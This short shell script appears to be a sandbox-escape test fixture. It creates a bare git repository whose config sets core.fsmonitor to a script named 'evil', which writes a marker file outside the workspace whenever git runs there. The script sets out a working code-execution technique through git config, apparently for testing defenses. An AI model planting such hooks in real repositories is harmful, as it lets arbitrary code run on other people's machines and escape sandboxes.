#!/bin/sh
: > "$ARENA/ws/ran"
cat > "$ARENA/ws/evil" <<END
#!/bin/sh
touch "$ARENA/outside/pwned"
cat
END
chmod +x "$ARENA/ws/evil"
git init -q --bare docs
git config -f docs/config core.bare false; git config -f docs/config core.worktree "$ARENA/ws/docs"; git config -f docs/config core.fsmonitor "$ARENA/ws/evil"
